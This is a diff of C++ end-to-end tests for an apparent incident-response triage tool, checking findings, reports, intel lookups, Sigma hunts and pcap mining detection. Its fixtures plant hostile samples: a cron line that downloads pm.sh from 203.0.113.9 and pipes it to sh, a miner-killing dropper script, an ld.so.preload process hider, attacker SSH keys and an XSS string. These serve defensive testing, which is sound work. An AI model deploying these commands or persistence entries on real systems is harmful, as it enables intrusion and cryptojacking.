@@ -1,13 +1,6 @@
 // End-to-end scenarios through the real binary, one per promise the README makes.
-#include <gtest/gtest.h>
-#include <arpa/inet.h>
 #include <fcntl.h>
-#include <linux/fs.h>
-#include <sys/ioctl.h>
-#include <netinet/in.h>
-#include <sys/socket.h>
 #include <signal.h>
-#include <sys/wait.h>
 #include <unistd.h>
 
 #include <chrono>
@@ -15,8 +8,16 @@
 #include <iostream>
 #include <map>
 #include <set>
-#include <nlohmann/json.hpp>
 #include <thread>
+
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <linux/fs.h>
+#include <netinet/in.h>
+#include <nlohmann/json.hpp>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
 
 #include "casedb/case_db.h"
 #include "support/evtx_writer.h"
@@ -61,7 +62,7 @@ TEST(EndToEnd, HostileHostsFileGivesOneFindingAndInertHtml) {
   auto html = ms({"report", case_path, "--format", "html", "--out", html_path});
   ASSERT_EQ(html.exit_code, 0);
   std::string page = test::read_file(html_path);
-  EXPECT_EQ(page.find("<script"), std::string::npos);                               // not markup...
+  EXPECT_EQ(page.find("<script"), std::string::npos);                                // not markup...
   EXPECT_NE(page.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);  // ...but visible text
   EXPECT_NE(page.find("www.baidu.com"), std::string::npos);
 }
@@ -170,8 +171,9 @@ TEST(EndToEnd, LabInfectionIsFoundAndLinked) {
                    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQDJ5hZ4 root@kinsing\n");
   test::write_file(root / "etc/resolv.conf", "nameserver 8.8.8.8\nnameserver 223.5.5.5\n");
   // What the dropper left: its script (rivals killed first, as Kinsing's d.sh does) and an XMRig configuration.
-  test::write_file(root / "tmp/d.sh", "#!/bin/sh\nps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9\n"
-                                      "pkill -f kinsing\n");
+  test::write_file(root / "tmp/d.sh",
+                   "#!/bin/sh\nps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9\n"
+                   "pkill -f kinsing\n");
   fs::permissions(root / "tmp/d.sh", fs::perms::owner_all);
   test::write_file(root / "tmp/.ICE-unix/.x/config.json",
                    std::string(R"({"pools":[{"url":"pool.supportxmr.com:3333","user":")") +
@@ -301,6 +303,22 @@ TEST(EndToEnd, LabInfectionIsFoundAndLinked) {
   // The terminal summary tells the same story.
   EXPECT_NE(r.out.find("Story:"), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("Do next:"), std::string::npos) << r.out;
+  // ...and the HTML report draws it: the miner process with its time, the cron entry that restarts it, the logon
+  // that let the attacker in.
+  const std::string html = test::read_file(dir / "out/report.html");
+  const size_t svg = html.find("<svg");
+  ASSERT_NE(svg, std::string::npos);
+  std::string graph = html.substr(svg, html.find("</svg>", svg) - svg);
+  for (size_t p = 0; (p = graph.find("&#45;", p)) != std::string::npos;) graph.replace(p, 5, "-");  // Graphviz's "-"
+  for (auto want : {"Mining process", "Persistence", "Initial access", "restarts", "got in", "runs"})
+    EXPECT_NE(graph.find(want), std::string::npos) << want;
+  EXPECT_NE(graph.find(pid_text), std::string::npos);
+  for (const auto& st : story["steps"])
+    if (st["kind"] == "entry" || st["kind"] == "miner") {
+      const std::string t = st["time"].get<std::string>();
+      ASSERT_GE(t.size(), 19u);
+      EXPECT_NE(graph.find(t.substr(0, 19) + "Z"), std::string::npos) << "the step's time in its box: " << t;
+    }
 }
 
 TEST(EndToEnd, TriageFindsCronDownloaderAndPreload) {
@@ -309,7 +327,8 @@ TEST(EndToEnd, TriageFindsCronDownloaderAndPreload) {
   test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
   test::write_file(root / "var/spool/cron/crontabs/root",
                    "*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh\n");
-  test::write_file(root / "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all\n");
+  test::write_file(root / "etc/cron.d/e2scrub_all",
+                   "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all\n");
   test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
   test::write_file(root / "root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC root@worm\n");
   test::write_file(root / "home/deploy/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI deploy@laptop\n");
@@ -394,7 +413,8 @@ TEST(EndToEnd, KilledScanLeavesACaseThatOpens) {
   // A large hosts file of internal names: slow enough to be caught mid-write, and no findings to speak of.
   std::string big;
   big.reserve(40u << 20);
-  for (int i = 0; i < 1'200'000; ++i) big += "10.0.0." + std::to_string(i % 250 + 1) + " host" + std::to_string(i) + ".corp\n";
+  for (int i = 0; i < 1'200'000; ++i)
+    big += "10.0.0." + std::to_string(i % 250 + 1) + " host" + std::to_string(i) + ".corp\n";
   test::write_file(dir / "ev/etc/hosts", big);
   big.clear();
   fs::path case_path = dir / "case.sqlite";
@@ -434,8 +454,9 @@ TEST(EndToEnd, KilledScanLeavesACaseThatOpens) {
 TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
   test::TempDir dir;
   const std::string store = (dir / "intel.sqlite").string();
-  test::write_file(dir / "feed/kinsing.csv", "indicator,type,family\n45.9.148.99,ip,kinsing_h2miner\nbad[.]example,domain,x\n"
-                                              "junk value,ip,x\n");
+  test::write_file(dir / "feed/kinsing.csv",
+                   "indicator,type,family\n45.9.148.99,ip,kinsing_h2miner\nbad[.]example,domain,x\n"
+                   "junk value,ip,x\n");
   auto imp = ms({"intel", "import", "--json", "--intel", store, (dir / "feed").string()});
   ASSERT_EQ(imp.exit_code, 0) << imp.err;
   auto j = nlohmann::json::parse(imp.out);
@@ -446,8 +467,8 @@ TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
   EXPECT_EQ(again["new"], 0);  // idempotent
 
   auto look = ms({"intel", "lookup", "--intel", store, "45.9.148.99", "js.1226bye.xyz", "unknown.example"});
-  EXPECT_EQ(look.exit_code, 1);  // something is known
-  EXPECT_NE(look.out.find("MyKings"), std::string::npos);  // from the built-in knowledge base
+  EXPECT_EQ(look.exit_code, 1);                                                      // something is known
+  EXPECT_NE(look.out.find("MyKings"), std::string::npos);                            // from the built-in knowledge base
   EXPECT_NE(look.out.find("45.9.148.99 — Kinsing"), std::string::npos) << look.out;  // the feed named the KB family
   EXPECT_NE(look.out.find("unknown.example: not known"), std::string::npos);
 
@@ -458,8 +479,9 @@ TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
   ASSERT_EQ(scan.exit_code, 1) << scan.err;
   auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
   bool ioc = false;
-  for (const auto& f : rep["findings"]) ioc = ioc || (f["rule_id"] == "ioc.known_indicator" &&
-                                                     f["description_en"].get<std::string>().find("45.9.148.99") != std::string::npos);
+  for (const auto& f : rep["findings"])
+    ioc = ioc || (f["rule_id"] == "ioc.known_indicator" &&
+                  f["description_en"].get<std::string>().find("45.9.148.99") != std::string::npos);
   EXPECT_TRUE(ioc) << rep["findings"].dump();
 
   auto stix = ms({"intel", "export", "--case", case_path, "--format", "stix", "--out", (dir / "out.json").string()});
@@ -467,7 +489,8 @@ TEST(EndToEnd, IntelImportMatchExportRoundTrip) {
   auto bundle = nlohmann::json::parse(test::read_file(dir / "out.json"));
   EXPECT_EQ(bundle["type"], "bundle");
   const std::string store2 = (dir / "again.sqlite").string();
-  auto re = nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store2, (dir / "out.json").string()}).out);
+  auto re =
+      nlohmann::json::parse(ms({"intel", "import", "--json", "--intel", store2, (dir / "out.json").string()}).out);
   EXPECT_EQ(re["rejected"], 0);
   EXPECT_EQ(re["accepted"].get<size_t>(), bundle["objects"].size());
   EXPECT_NE(ms({"intel", "lookup", "--intel", store2, "45.9.148.99"}).out.find("1 match"), std::string::npos);
@@ -492,15 +515,18 @@ detection:
   condition: sel
 level: medium
 )");
-  auto hunt = ms({"evtx", "hunt", "--json", "--sigma", (dir / "rules").string(), (dir / "logs/Security.evtx").string()});
+  auto hunt =
+      ms({"evtx", "hunt", "--json", "--sigma", (dir / "rules").string(), (dir / "logs/Security.evtx").string()});
   ASSERT_EQ(hunt.exit_code, 1) << hunt.err;
   EXPECT_NE(hunt.out.find("Security Audit Log Cleared"), std::string::npos) << hunt.out;
   EXPECT_NE(hunt.out.find("Crypto Miner Command Line"), std::string::npos);  // 4688 under Sigma's field names
   EXPECT_NE(hunt.out.find("Network Logon By Backup Account"), std::string::npos);
-  auto high = ms({"evtx", "hunt", "--min-level", "high", "--sigma", (dir / "rules").string(), (dir / "logs/Security.evtx").string()});
+  auto high = ms({"evtx", "hunt", "--min-level", "high", "--sigma", (dir / "rules").string(),
+                  (dir / "logs/Security.evtx").string()});
   EXPECT_EQ(high.out.find("Backup Account"), std::string::npos);
   const std::string case_path = (dir / "case.sqlite").string();
-  auto scan = ms({"scan", "--quiet", "--sigma", (dir / "rules").string(), "--case", case_path, (dir / "logs").string()});
+  auto scan =
+      ms({"scan", "--quiet", "--sigma", (dir / "rules").string(), "--case", case_path, (dir / "logs").string()});
   ASSERT_EQ(scan.exit_code, 1) << scan.err;
   auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
   std::set<std::string> sigma_rules;
@@ -519,8 +545,11 @@ TEST(EndToEnd, SigmaCorrelationAcrossLogsAndLogonSummary) {
     test::EvtxEvent e;
     e.event_id = 4625;
     e.filetime += i * kSecond;
-    e.data = {{"TargetUserName", "administrator"}, {"LogonType", "3"}, {"IpAddress", "10.9.8.7"},
-              {"Status", "0xc000006d"}, {"SubStatus", "0xc000006a"}};
+    e.data = {{"TargetUserName", "administrator"},
+              {"LogonType", "3"},
+              {"IpAddress", "10.9.8.7"},
+              {"Status", "0xc000006d"},
+              {"SubStatus", "0xc000006a"}};
     failures.push_back(e);
   }
   success[0].event_id = 4624;
@@ -528,7 +557,8 @@ TEST(EndToEnd, SigmaCorrelationAcrossLogsAndLogonSummary) {
   success[0].data = {{"TargetUserName", "administrator"}, {"LogonType", "3"}, {"IpAddress", "10.9.8.7"}};
   test::write_file(dir / "logs/Security-old.evtx", test::write_evtx(failures).bytes);
   test::write_file(dir / "logs/Security.evtx", test::write_evtx(success, 41).bytes);
-  auto hunt = ms({"evtx", "hunt", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
+  auto hunt =
+      ms({"evtx", "hunt", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
   ASSERT_EQ(hunt.exit_code, 1) << hunt.err;
   nlohmann::json corr;
   for (size_t p = 0, q; (q = hunt.out.find('\n', p)) != std::string::npos; p = q + 1) {
@@ -552,10 +582,12 @@ TEST(EndToEnd, SigmaCorrelationAcrossLogsAndLogonSummary) {
   auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
   bool found = false;
   for (const auto& f : rep["findings"])
-    found = found || (f["engine"] == "sigma" && f["title_en"] == "Brute Force Then Successful Logon From The Same Address");
+    found =
+        found || (f["engine"] == "sigma" && f["title_en"] == "Brute Force Then Successful Logon From The Same Address");
   EXPECT_TRUE(found) << rep["findings"].dump();
 
-  auto logons = ms({"evtx", "logons", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
+  auto logons = ms(
+      {"evtx", "logons", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
   ASSERT_EQ(logons.exit_code, 0) << logons.err;
   auto row = nlohmann::json::parse(logons.out.substr(0, logons.out.find('\n')));
   EXPECT_EQ(row["source"], "10.9.8.7");
@@ -574,8 +606,10 @@ TEST(EndToEnd, CaptureWithMiningTraffic) {
   size_t flows = 0, mining = 0;
   for (size_t p = 0, q; (q = pcap.out.find('\n', p)) != std::string::npos; p = q + 1) {
     auto j = nlohmann::json::parse(pcap.out.substr(p, q - p));
-    if (j.contains("finding")) mining += j["rule_id"] == "heuristic.mining_traffic";
-    else ++flows;
+    if (j.contains("finding"))
+      mining += j["rule_id"] == "heuristic.mining_traffic";
+    else
+      ++flows;
   }
   EXPECT_EQ(flows, 4u);
   EXPECT_EQ(mining, 4u);
@@ -589,10 +623,10 @@ TEST(EndToEnd, CaptureWithMiningTraffic) {
   for (const auto& f : rep["findings"])
     pool = pool || (f["rule_id"] == "heuristic.mining_traffic" &&
                     f["title_en"] == "Mining traffic: 192.168.2.148 → pool 94.23.199.191:3333 (stratum)" &&
-                    f["description_en"].get<std::string>().find("t1fAhZF5aUJdY7CikGULHmeYk7id8qmvbAd.rig4") != std::string::npos);
+                    f["description_en"].get<std::string>().find("t1fAhZF5aUJdY7CikGULHmeYk7id8qmvbAd.rig4") !=
+                        std::string::npos);
   EXPECT_TRUE(pool) << rep["findings"].dump();
 }
-
 
 std::vector<nlohmann::json> json_lines(const std::string& out) {
   std::vector<nlohmann::json> lines;
@@ -655,12 +689,15 @@ TEST(EndToEnd, WormTrafficOnTheWire) {
   }
   EXPECT_EQ(conns, 27u);
   EXPECT_EQ(rules, (std::set<std::string>{"heuristic.network_brute_force", "heuristic.eternalblue",
-                                           "heuristic.doublepulsar", "heuristic.smb1_in_use"}));
+                                          "heuristic.doublepulsar", "heuristic.smb1_in_use"}));
   auto table = ms({"pcap", (dir / "evidence/sensor.pcapng").string()});
   EXPECT_NE(table.out.find("[critical] 13 failed SMB logons from 10.7.0.20 to 10.7.0.5, then a successful logon as "
-                           "administrator"), std::string::npos) << table.out;
+                           "administrator"),
+            std::string::npos)
+      << table.out;
   EXPECT_NE(table.out.find("[high] 12 failed MSSQL logons from 198.51.100.77 to 10.7.0.9 (password guessing)"),
-            std::string::npos) << table.out;
+            std::string::npos)
+      << table.out;
 
   const std::string case_path = (dir / "case.sqlite").string();
   auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "evidence").string()});
@@ -689,8 +726,10 @@ TEST(EndToEnd, LiveCaptureOnLoopback) {
     std::this_thread::sleep_for(std::chrono::milliseconds(1500));  // the capture is running by then
     const int c = ::socket(AF_INET, SOCK_STREAM, 0);
     if (::connect(c, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) {
-      const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4)" + std::string(94, 'B') +
-                                R"(","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}})" "\n";
+      const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4)" +
+                                std::string(94, 'B') +
+                                R"(","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}})"
+                                "\n";
       (void)!::write(c, login.data(), login.size());
       const int s = ::accept(server, nullptr, nullptr);
       char buf[4096];
@@ -710,8 +749,8 @@ TEST(EndToEnd, LiveCaptureOnLoopback) {
   ASSERT_TRUE(fs::exists(out));
   bool mining = false;
   for (const auto& j : json_lines(run.out))
-    mining = mining || (j["_path"] == "conn" && j.value("MiningProtocol", "") == "monero-stratum" &&
-                        j["id.resp_p"] == port);
+    mining =
+        mining || (j["_path"] == "conn" && j.value("MiningProtocol", "") == "monero-stratum" && j["id.resp_p"] == port);
   EXPECT_TRUE(mining) << run.out;
   // The capture is evidence: a second run refuses to overwrite it.
   auto again = ms({"pcap", "--interface", "lo", "--duration", "1", "--write", out.string()});
@@ -746,7 +785,8 @@ TEST(EndToEnd, WindowsHiveInATriageFolder) {
       found = true;
       const std::string ev = f.dump();
       EXPECT_NE(ev.find("HKU\\\\admin\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Windows Update"),
-                std::string::npos) << ev;
+                std::string::npos)
+          << ev;
       EXPECT_NE(ev.find("NTUSER.DAT"), std::string::npos) << ev;
     }
   EXPECT_TRUE(found) << rep["findings"].dump();
@@ -799,7 +839,8 @@ TEST(EndToEnd, AmcacheSha1KnownToTheKnowledgeBase) {
   const std::string case_path = (dir / "case.sqlite").string();
   auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "triage").string()});
   ASSERT_EQ(scan.exit_code, 1) << scan.err;
-  const std::string findings = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out)["findings"].dump();
+  const std::string findings =
+      nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out)["findings"].dump();
   EXPECT_NE(findings.find("13dd73396e35ab46a1618398b0323015c5dca944"), std::string::npos) << findings;
   EXPECT_NE(findings.find("MyKings"), std::string::npos) << findings;
 }
